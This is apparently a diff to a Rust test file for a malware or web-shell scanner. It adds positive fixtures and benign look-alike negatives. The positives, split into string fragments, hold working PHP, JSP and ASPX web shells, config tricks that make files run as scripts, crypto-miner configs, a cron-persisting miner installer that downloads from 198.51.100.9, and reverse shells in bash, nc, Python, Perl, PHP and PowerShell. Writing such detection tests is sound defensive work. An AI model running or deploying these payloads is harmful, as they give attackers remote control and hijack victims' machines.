@@ -60,6 +60,113 @@ const FOUND: &[Row] = &[
         "z.aspx",
         &["<%@ Page Language=\"C#\"%><% var i = new Process", "StartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>"],
     ),
+    ("web_shell_php_callback", "c.php", &["<?php array_map('ass", "ert', array($_POST['x'])); ?>"]),
+    ("web_shell_php_callback", "c.php", &["<?php usort($_GET['a'], 'sys", "tem'); ?>"]),
+    ("web_shell_php_callback", "c.php", &["<?php $f = 'ass'.'ert'; $f", "($_REQUEST['k']);"]),
+    ("web_shell_php_includes_request", "i.php", &["<?php @incl", "ude($_GET['page']); ?>"]),
+    ("web_shell_php_includes_request", "i.php", &["<?php requ", "ire_once 'php://input'; /* ", "*/ ?>"]),
+    (
+        "web_shell_php_writes_request",
+        "w.php",
+        &["<?php file_put_", "contents($_POST['n'], base64_decode($_POST['c'])); ?>"],
+    ),
+    (
+        "web_shell_jsp_writes_request",
+        "w.jsp",
+        &[
+            "<% new java.io.FileOutput",
+            "Stream(application.getRealPath(\"/\") + request.getParameter(\"f\")).write(request.getParameter(\"t\").getBytes()); %>",
+        ],
+    ),
+    (
+        "web_shell_aspx_writes_request",
+        "w.aspx",
+        &[
+            "<%@ Page Language=\"C#\" %><% System.IO.File.WriteAll",
+            "Text(Server.MapPath(Request[\"f\"]), Request[\"t\"]); %>",
+        ],
+    ),
+    (
+        "web_shell_config_runs_scripts",
+        "web.config",
+        &[
+            "<configuration><system.webServer><handlers><add name=\"x\" path=\"*.config\" verb=\"*\" scriptProc",
+            "essor=\"%windir%\\system32\\inetsrv\\asp.dll\" /></handlers></system.webServer></configuration>",
+        ],
+    ),
+    ("web_shell_config_runs_scripts", ".htaccess", &["AddType application/x-httpd-", "php .jpg\n"]),
+    (
+        "miner_settings",
+        "config.json",
+        &[
+            "{\"pools\": [{\"url\": \"strat",
+            "um+tcp://pool.example:3333\", \"user\": \"4",
+            "8\", \"pass\": \"x\"}], \"algo\": \"rx/0\"}",
+        ],
+    ),
+    (
+        "miner_settings",
+        "run.sh",
+        &["#!/bin/sh\n./x --donate-", "level 1 -o pool.example:3333 --coin=monero --cpu-priority 0"],
+    ),
+    (
+        "miner_program",
+        "kworkerds",
+        &["\u{7f}ELF\u{2}\u{1}\u{1} strat", "um+tcp:// mining.sub", "scribe cryptonight randomx --donate-level"],
+    ),
+    (
+        "miner_installs_itself",
+        "i.sh",
+        &[
+            "#!/bin/sh\npkill -9 xm",
+            "rig; curl -s http://198.51.100.9/x -o /tmp/x\n(cron",
+            "tab -l; echo '* * * * * /tmp/x') | cron",
+            "tab -\n",
+        ],
+    ),
+    ("reverse_shell_script", "r.sh", &["#!/bin/bash\nba", "sh -i >& /dev/", "tcp/198.51.100.9/4444 0>&1"]),
+    (
+        "reverse_shell_script",
+        "r.sh",
+        &["rm /tmp/f; mkfi", "fo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n", "c 198.51.100.9 4444 > /tmp/f"],
+    ),
+    (
+        "reverse_shell_script",
+        "r.py",
+        &[
+            "import socket,os,pty\ns=socket.socket(); s.conn",
+            "ect((\"198.51.100.9\",4444))\nos.du",
+            "p2(s.fileno(),0); os.dup2(s.fileno(),1)\npty.spa",
+            "wn(\"/bin/sh\")",
+        ],
+    ),
+    (
+        "reverse_shell_script",
+        "r.pl",
+        &[
+            "use Socket; socket(S,PF_INET,SOCK_STREAM,6); conn",
+            "ect(S,sockaddr_in(4444,inet_aton('198.51.100.9'))); open(STD",
+            "IN,\">&S\"); open(STDOUT,\">&S\"); exec(\"/bin/sh -i\");",
+        ],
+    ),
+    (
+        "reverse_shell_script",
+        "r.php",
+        &[
+            "<?php $s = fsock",
+            "open('198.51.100.9', 4444); proc_",
+            "open('/bin/sh -i', array(0=>$s, 1=>$s, 2=>$s), $p); ?>",
+        ],
+    ),
+    (
+        "reverse_shell_powershell",
+        "r.ps1",
+        &[
+            "$c = New-Object System.Net.Sockets.TCP",
+            "Client('198.51.100.9',4444); $s = $c.GetStream(); while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $r = (i",
+            "ex $d 2>&1 | Out-String ); $s.Write($r,0,$r.Length)}",
+        ],
+    ),
     ("elf_as_web_script", "/var/www/html/anh.php", &["\u{7f}ELF\u{2}\u{1}\u{1}"]),
     ("elf_as_web_script", "/opt/tomcat/webapps/ROOT/upload/x", &["\u{7f}ELF\u{2}\u{1}\u{1}"]),
     (
@@ -111,6 +218,53 @@ const FOUND: &[Row] = &[
 const NOT_FOUND: &[Row] = &[
     ("", "eicar.md", &["The file says $EICAR-STANDARD-ANTIVIRUS-TEST-FILE! somewhere in the middle of a text."]),
     ("", "safe.php", &["<?php $id = intval($_GET['id']); echo htmlspecialchars(system_name($id)); ?>"]),
+    ("", "sort.php", &["<?php usort($rows, 'compare_dates'); array_map('trim', $_POST['names']); ?>"]),
+    ("", "menu.php", &["<?php $pages = ['a' => 'a.php']; include $pages[$_GET['page']] ?? 'a.php'; ?>"]),
+    (
+        "",
+        "upload.php",
+        &["<?php move_uploaded_file($_FILES['f']['tmp_name'], $target); file_put_contents('log.txt', $line); ?>"],
+    ),
+    (
+        "",
+        "export.jsp",
+        &[
+            "<% FileOutputStream out = new FileOutputStream(report); out.write(bytes); String n = request.getParameter(\"n\"); %>",
+        ],
+    ),
+    (
+        "",
+        "save.aspx",
+        &["<%@ Page Language=\"C#\" %><% File.WriteAllText(path, Server.HtmlEncode(note)); var q = Request[\"q\"]; %>"],
+    ),
+    (
+        "",
+        "web.config",
+        &[
+            "<configuration><handlers><add name=\"php\" path=\"*.php\" scriptProcessor=\"C:\\php\\php-cgi.exe\" /></handlers></configuration>",
+        ],
+    ),
+    ("", ".htaccess", &["AddType application/x-httpd-php .php\nAddType image/webp .webp\n"]),
+    (
+        "",
+        "pools.json",
+        &["{\"pools\": [{\"url\": \"postgres://db.example:5432\", \"user\": \"app\", \"pass\": \"x\"}]}"],
+    ),
+    ("", "/usr/bin/report", &["\u{7f}ELF\u{2}\u{1}\u{1} data mining subscribe stratum of rocks"]),
+    (
+        "",
+        "cron.sh",
+        &[
+            "#!/bin/sh\n(crontab -l; echo '0 2 * * * /usr/local/bin/backup') | crontab -\ncurl -fsS https://example.org/ping\n",
+        ],
+    ),
+    (
+        "",
+        "wait.sh",
+        &["#!/bin/bash\nuntil echo > /dev/tcp/db/5432; do sleep 1; done\nmkfifo /run/log; nc -z db 5432\n"],
+    ),
+    ("", "client.py", &["import socket, os, pty\ns = socket.create_connection(('db', 5432)); s.send(b'x')\n"]),
+    ("", "port.ps1", &["$c = New-Object System.Net.Sockets.TcpClient('db', 5432); $c.Connected; $c.Close()"]),
     ("", "manual.md", &["Never write eval($_POST['x']) in a page."]),
     ("", "thumb.php", &["<?php $data = base64_decode('", BASE64, "'); imagecreatefromstring($data);"]),
     (
